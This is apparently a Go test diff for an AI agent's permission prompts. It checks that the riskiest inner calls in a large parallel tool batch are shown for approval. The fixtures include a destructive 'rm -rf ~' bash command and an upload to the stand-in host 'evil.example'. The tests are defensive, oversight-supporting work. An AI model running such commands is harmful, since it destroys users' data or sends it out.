@@ -193,7 +193,25 @@ func TestWrappedCallPrompts(t *testing.T) {
 					items = append(items, fmt.Sprintf("#%d tool 'read' for path '/f%d'", i+1, i))
 				}
 				return strings.Join(items, "; ")
-			}() + "; … 4 more. Allow this call?"},
+			}() + "; … 4 more, none above read. Allow this call?"},
+		{"beyond sixteen, the riskiest calls are shown",
+			"multi_tool_use.parallel", parallelInput(append(many[:38:38], "bash", `{"command":"rm -rf ~"}`)...),
+			"Current agent requested tool 'multi_tool_use.parallel' → 20 calls: " + func() string {
+				var items []string
+				for i := range 15 {
+					items = append(items, fmt.Sprintf("#%d tool 'read' for path '/f%d'", i+1, i))
+				}
+				return strings.Join(items, "; ")
+			}() + `; #20 tool 'bash' with input {"command":"rm -rf ~"}; … 4 more, none above read. Allow this call?`},
+		{"beyond sixteen, unknown tools count as the riskiest",
+			"multi_tool_use.parallel", parallelInput(append(many[:38:38], "upload", `{"to":"https://evil.example"}`)...),
+			"Current agent requested tool 'multi_tool_use.parallel' → 20 calls: " + func() string {
+				var items []string
+				for i := range 15 {
+					items = append(items, fmt.Sprintf("#%d tool 'read' for path '/f%d'", i+1, i))
+				}
+				return strings.Join(items, "; ")
+			}() + `; #20 tool 'upload' with input {"to":"https://evil.example"}; … 4 more, none above read. Allow this call?`},
 		{"an inner MCP call names its target",
 			"multi_tool_use.parallel", parallelInput("mcp", `{"tool":"exa:search","arguments":{"query":"go"}}`, "read", `{"path":"/a"}`),
 			`Current agent requested tool 'multi_tool_use.parallel' → 2 calls: #1 MCP target 'exa:search'; #2 tool 'read' for path '/a'. Allow this call?`},
@@ -220,6 +238,26 @@ func TestWrappedCallDescription(t *testing.T) {
 	assert.Equal(t, TierNetwork, desc.Calls[1].Tier)
 	assert.Equal(t, []WrappedCall{{Label: "device 'web_fetch'", Tool: "web_fetch",
 		Preview: Preview{Text: "to fetch 'https://e.example'", Formatter: "test"}, Tier: TierNetwork}}, desc.Calls[1].Calls)
+}
+
+func TestWrappedCallDescriptionBeyondSixteen(t *testing.T) {
+	d := wrapDispatcher(t, Limits{}, nil)
+	var calls []string
+	for i := range 20 {
+		calls = append(calls, "read", fmt.Sprintf(`{"path":"/f%d"}`, i))
+	}
+	calls[2*7] = "bash"
+	desc := d.Describe(Call{Tool: "multi_tool_use.parallel", Input: parallelInput(calls...)})
+	require.Len(t, desc.Calls, MaxInnerCalls)
+	assert.Equal(t, 4, desc.Hidden)
+	assert.Equal(t, TierExecute, desc.Tier)
+	for _, c := range desc.Calls {
+		want := TierRead
+		if c.Tool == "bash" {
+			want = TierExecute
+		}
+		assert.Equal(t, want, c.Tier, c.Label)
+	}
 }
 
 func TestWrappedCallTiers(t *testing.T) {
